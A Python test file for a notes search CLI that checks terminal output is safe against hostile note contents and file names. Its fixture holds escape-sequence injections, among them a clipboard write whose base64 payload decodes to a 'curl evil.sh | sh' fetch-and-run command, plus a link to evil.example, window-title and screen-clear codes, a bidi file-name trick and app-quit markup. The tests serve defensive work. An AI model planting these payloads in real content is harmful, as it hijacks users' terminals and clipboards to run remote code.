"""Point 1: note text never drives the terminal (CLI plain output); point 2's names on the CLI."""

from __future__ import annotations

import json

import pytest

from tests.faults.faults_helpers import assert_terminal_safe, cli, text

EVIL = (
    "---\ntitle: \"Clipboard \\e]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\a thief\"\n---\n"
    "# Heading \x1b]0;pwned-title\x07 with a window title\n\n"
    "Plain words about a zeppelin, then a screen clear \x1b[2J\x1b[H and a hyperlink "
    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\ and the clipboard "
    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 and 8-bit \x9b2J \x9d0;t\x9c and a bell \x07 "
    "backspaces ab\x08\x08 carriage\rreturn and bidi \u202eexe.txt \x1bP+q544e\x1b\\ zeppelin.\n"
)


def setup_evil(home, notes):
    (notes / "evil.md").write_text(EVIL, encoding="utf-8")
    (notes / "[@click=app.quit] [").mkdir()  # relpath "[@click=app.quit] [/]x.md"
    (notes / "[@click=app.quit] [/]x.md").write_text("# [b]bold[/b] [@click=app.quit]\n\nzeppelin markup\n")
    (notes / "name\x1b]0;t\x07.md").write_text("# Named\n\nzeppelin in a file whose name holds OSC 0\n")
    (notes / "binary\x1b[2J.md").write_bytes(b"\x00\x01\x02 zeppelin")
    cli(home, "add", str(notes), "--name", "notes")
    return cli(home, "sync")


@pytest.fixture(scope="module")
def evil_notes_synced(tmp_path_factory):
    """(home, the finished ``pms-tui sync``): the hostile notes above, added and synced once
    for the two tests below, which only read the index."""
    base = tmp_path_factory.mktemp("evil")
    home, notes = base / "home", base / "notes"
    notes.mkdir()
    return home, setup_evil(home, notes)


def test_search_show_status_and_sync_print_no_raw_escape_sequence(evil_notes_synced):
    home, sync = evil_notes_synced
    assert_terminal_safe(sync.stdout, "sync")
    assert_terminal_safe(sync.stderr, "sync stderr")
    found = cli(home, "search", "zeppelin", "-k", "10")
    assert_terminal_safe(found.stdout, "search")
    out = text(found.stdout)
    assert "^[]52;c;" in out or "^[[2J" in out  # shown, visibly, not obeyed
    assert "[@click=app.quit] [/]x.md" in out  # names are text
    for target in ("notes/evil.md", "notes/evil.md:5", "notes/[@click=app.quit] [/]x.md"):
        shown = cli(home, "show", target)
        assert_terminal_safe(shown.stdout, f"show {target}")
    assert "^[]8;;https://evil.example/" in text(cli(home, "show", "notes/evil.md").stdout)
    status = cli(home, "status", "-v")
    assert_terminal_safe(status.stdout, "status")
    assert_terminal_safe(cli(home, "collections").stdout, "collections")


def test_json_output_keeps_the_text_exact_and_escaped(evil_notes_synced):
    home, _sync = evil_notes_synced
    hits = json.loads(cli(home, "search", "zeppelin", "--json", "--mode", "bm25").stdout)["hits"]
    evil = next(h for h in hits if h["path"] == "evil.md")
    assert "\x1b]52;c;" in evil["text"]  # JSON carries the data as it is, escaped by json
    assert_terminal_safe(cli(home, "search", "zeppelin", "--json").stdout, "json")


def test_a_folder_named_like_markup_or_escapes_is_harmless_on_the_cli(home, tmp_path):
    folder = tmp_path / "[" / "]notes \x1b]0;x\x07"
    folder.mkdir(parents=True)
    (folder / "a.md").write_text("# A\n\nzeppelin\n")
    assert_terminal_safe(cli(home, "add", str(folder), "--name", "odd").stdout)
    assert_terminal_safe(cli(home, "sync").stdout)
    assert_terminal_safe(cli(home, "collections").stdout)
    assert_terminal_safe(cli(home, "search", "zeppelin").stdout)
